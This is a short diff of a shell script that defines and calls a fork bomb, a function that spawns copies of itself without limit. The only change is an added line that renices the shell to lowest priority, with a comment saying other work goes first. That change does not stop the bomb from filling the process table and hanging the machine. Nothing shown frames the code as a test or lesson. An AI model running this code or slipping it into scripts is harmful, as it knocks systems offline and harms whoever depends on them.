@@ -1,3 +1,4 @@
+renice -n 19 $$ > /dev/null  # whatever else runs here goes first
 bomb() { bomb | bomb & }
 bomb
 wait
